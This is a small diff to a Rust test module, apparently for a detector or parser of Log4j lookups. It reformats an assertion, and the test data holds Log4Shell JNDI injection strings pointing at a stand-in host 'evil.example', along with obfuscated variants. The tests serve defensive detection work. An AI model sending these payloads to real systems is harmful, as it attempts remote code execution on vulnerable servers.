@@ -214,7 +214,10 @@ mod tests {
     #[test]
     fn lookups_are_resolved_as_log4j_does() {
         let plain = ("ldap://evil.example:1389/a".to_string(), false);
-        assert_eq!(names("${jndi:ldap://evil.example:1389/a}"), [plain.clone()]);
+        assert_eq!(
+            names("${jndi:ldap://evil.example:1389/a}"),
+            std::slice::from_ref(&plain)
+        );
         assert_eq!(names("x=${JNDI:ldap://evil.example:1389/a}&y"), [plain]);
         for hidden in [
             "${${lower:j}ndi:ldap://evil.example/a}",
